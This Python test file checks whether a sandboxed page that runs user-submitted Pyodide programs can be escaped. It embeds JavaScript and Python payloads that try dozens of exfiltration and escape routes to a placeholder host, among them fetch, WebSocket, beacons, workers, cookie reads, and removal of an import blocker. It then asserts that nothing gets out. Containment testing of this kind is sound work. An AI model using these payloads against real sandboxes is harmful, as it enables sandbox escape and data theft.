"""A program that tries every way out of the page, and a server that counts what reaches it."""

import json
import socket
import threading

# Each way is tried, and what came of it noted. OTHER is the address of the second server, OWN that of the page.
WAYS = r"""
const other = "OTHER", own = "OWN", came = {};
const text = (script) => URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
let names = 0;
function trusted(address) {
  if (!self.trustedTypes) return address;
  const name = ["baraja-markup", "baraja-worker", "baraja-memory", "baraja-jobs"][names++];
  return trustedTypes.createPolicy(name, { createScriptURL: () => address }).createScriptURL("");
}
const heard = (target, good) => new Promise((go, stop) => {
  target["on" + good] = (event) => go(event.data ?? good);
  target.onerror = () => stop("error");
});
function asked(address, waits) {
  const request = new XMLHttpRequest();
  request.open("GET", address, waits);
  if (!waits) return request.send(), request.status;
  const answer = heard(request, "load");
  request.send();
  return answer;
}
const ways = {
  eval: () => eval("import('" + other + "eval.js')"),
  Function: () => new Function("return import('" + other + "function.js')")(),
  import: () => import(other + "import.js"),
  importOwn: () => import(own + "import-stolen.js"),
  fetch: () => fetch(other + "fetch", { mode: "no-cors" }),
  fetchOwn: () => fetch(own + "fetch-stolen"),
  keepalive: () => fetch(other + "alive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
  XMLHttpRequest: () => asked(other + "xhr", true),
  waitingXMLHttpRequest: () => asked(other + "waiting-xhr", false),
  WebSocket: () => heard(new WebSocket(other.replace("http", "ws")), "open"),
  WebSocketStream: () => new WebSocketStream(other.replace("http", "ws")).opened,
  WebTransport: () => new WebTransport(other.replace("http", "https")).ready,
  EventSource: () => heard(new EventSource(other + "events"), "open"),
  sendBeacon: () => navigator.sendBeacon(other + "beacon"),
  RTCPeerConnection: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(other).host }] }),
  FontFace: () => new FontFace("one", "url(" + other + "font.woff2)").load(),
  fonts: () => (self.fonts.add(new FontFace("two", "url(" + other + "two.woff2)")), self.fonts.load("9px two")),
  filter: () => {
    const canvas = new OffscreenCanvas(9, 9).getContext("2d");
    canvas.filter = "url(" + other + "filter.svg#x)";
    canvas.fillRect(0, 0, 9, 9);
  },
  picture: () => createImageBitmap(new Blob(
    ['<svg xmlns="http://www.w3.org/2000/svg"><image href="' + other + 'picture.png"/></svg>'],
    { type: "image/svg+xml" })),
  importScripts: () => importScripts(trusted(other + "scripts.js")),
  Worker: () => heard(new Worker(trusted(other + "worker.js")), "message"),
  SharedWorker: () => heard(new SharedWorker(trusted(other + "shared.js")).port, "message"),
  moduleWorker: () => heard(
    new Worker(trusted(text("import '" + other + "static.js'")), { type: "module" }), "message"),
  deeperWorker: () => heard(new Worker(trusted(text(
    "fetch('" + other + "deeper').then(() => postMessage('out'), (fault) => postMessage(String(fault)))"))), "message"),
  location: () => (location.href = other + "location"),
  open: () => open(other + "open"),
  indexedDB: () => heard(indexedDB.open("baraja"), "success"),
  caches: async () => (await caches.keys()).join(),
  cookies: async () => JSON.stringify(await cookieStore.getAll()),
  folder: async () => String(await navigator.storage.getDirectory()),
  locks: () => navigator.locks.request("baraja", () => "held"),
  tell: () => new BroadcastChannel("baraja").postMessage("stolen"),
  origin: () => origin,
};
async function attempt() {
  for (const name in ways) {
    const patience = new Promise((go) => setTimeout(go, 1000, "nothing"));
    try {
      came[name] = String(await Promise.race([ways[name](), patience]));
    } catch (fault) {
      came[name] = "fault: " + fault;
    }
  }
  postMessage(JSON.stringify(came));
}
attempt();
"""

PROGRAM = r"""
import sys

if not hasattr(sys, "came"):
    sys.came = []
    sys.meta_path[:] = [finder for finder in sys.meta_path if "NoBrowser" not in repr(finder)]
    import asyncio
    import io
    import json
    import js
    from pyodide.ffi import to_js
    from pyodide.code import run_js

    sys.stderr = io.StringIO()  # the page shows the first lines alone
    other, own = "OTHER", "OWN"
    native = js.WorkerGlobalScope.prototype

    def text(script):
        return js.URL.createObjectURL(js.Blob.new(to_js([script]), to_js({"type": "text/javascript"})))

    def plain(**options):
        return js.Object.fromEntries(to_js(options))

    def asked(address, waits):
        request = js.XMLHttpRequest.new()
        request.open("GET", address, waits)
        request.send()
        return request.status

    def filtered():
        canvas = js.OffscreenCanvas.new(9, 9).getContext("2d")
        canvas.filter = "url(" + other + "filter.svg#x)"
        canvas.fillRect(0, 0, 9, 9)

    ways = {
        "eval": lambda: js.eval("import('" + other + "eval.js')"),
        "Function": lambda: js.Function.new("return import('" + other + "function.js')")(),
        "run_js": lambda: run_js("import('" + other + "run_js.js')"),
        "FontFace": lambda: js.FontFace.new("one", "url(" + other + "font.woff2)").load(),
        "fonts": lambda: js.self.fonts.load("9px two"),
        "fetch": lambda: native.fetch.call(js.self, other + "fetch", plain(mode="no-cors")),
        "fetchOwn": lambda: native.fetch.call(js.self, own + "fetch-stolen"),
        "keepalive": lambda: native.fetch.call(js.self, other + "alive", plain(mode="no-cors", keepalive=True)),
        "XMLHttpRequest": lambda: asked(other + "xhr", True),
        "waitingXMLHttpRequest": lambda: asked(other + "waiting-xhr", False),
        "WebSocket": lambda: js.WebSocket.new(other.replace("http", "ws")),
        "WebSocketStream": lambda: js.WebSocketStream.new(other.replace("http", "ws")).opened,
        "WebTransport": lambda: js.WebTransport.new(other.replace("http", "https")).ready,
        "EventSource": lambda: js.EventSource.new(other + "events"),
        "sendBeacon": lambda: js.navigator.sendBeacon(other + "beacon"),
        "RTCPeerConnection": lambda: js.RTCPeerConnection.new(),
        "filter": filtered,
        "importScripts": lambda: native.importScripts.call(js.self, other + "scripts.js"),
        "Worker": lambda: js.Worker.new(other + "worker.js"),
        "SharedWorker": lambda: js.SharedWorker.new(other + "shared.js"),
        "deeperWorker": lambda: js.Worker.new(text("fetch('" + other + "deeper')")),
        "constructor": lambda: js.self.constructor.constructor("return 1")(),
        "location": lambda: setattr(js.location, "href", other + "location"),
        "open": lambda: js.open(other + "open"),
        "indexedDB": lambda: js.indexedDB.open("baraja"),
        "caches": lambda: js.caches.keys(),
        "cookies": lambda: js.cookieStore.getAll(),
        "folder": lambda: js.navigator.storage.getDirectory(),
        "locks": lambda: js.navigator.locks.request("baraja", lambda lock: "held"),
        "tell": lambda: js.BroadcastChannel.new("baraja").postMessage("stolen"),
        "origin": lambda: js.origin,
    }

    async def tried():
        came = {}
        for name, way in ways.items():
            try:
                answer = way()
                if hasattr(answer, "then"):
                    answer = await asyncio.wait_for(answer, 1)
                came[name] = str(answer)
            except BaseException as fault:
                came[name] = "fault: " + str(fault)
        sys.came.append(json.dumps(came))

    asyncio.ensure_future(tried())

class A:
    def __init__(self, seed): pass
    def decide(self, view, question):
        if sys.came:
            print("CAME" + sys.came.pop() + "CAME")
        return question.options[:question.least]
"""

WRITE = """(text) => {
  window.heard = [];
  new BroadcastChannel("baraja").onmessage = ({ data }) => heard.push(data);
  const field = document.querySelector("#program");
  field.value = text;
  field.dispatchEvent(new Event("input", { bubbles: true }));
}"""

TRIED = """() => new Promise((go) => {
  const look = () => document.querySelector(".printed")?.textContent.includes("CAME") ? go(1) : setTimeout(look, 50);
  look();
})"""
"""Waits until the program has printed what came of all ways."""


class Counting:
    """A server that answers nothing and keeps the beginning of all it is sent."""

    def __init__(self):
        self.came = []
        self.lines = 0
        self.line = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self.line.getsockname()[1]}/"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                line, _ = self.line.accept()
            except OSError:
                return
            self.lines += 1
            threading.Thread(target=self._hear, args=(line,), daemon=True).start()

    def _hear(self, line):
        with line:
            self.came.append(line.recv(1000))

    def end(self):
        self.line.close()


def program(other, site):
    return PROGRAM.replace("OTHER", other.address).replace("OWN", site.url)


def check(other, site, printed, heard):
    """What the program found, after it has tried everything."""
    came = json.loads(printed.split("CAME")[1])
    assert len(came) > 30, came
    assert other.lines == 0 and other.came == [], "nothing reached the other server"
    assert not [path for path in site.requests if "stolen" in path], "nor ours"
    assert heard == [] and came["origin"] == "null"
    for storage in ("indexedDB", "cookies", "folder", "locks"):
        assert came[storage].startswith("fault"), came
    assert "baraja" not in came["caches"]
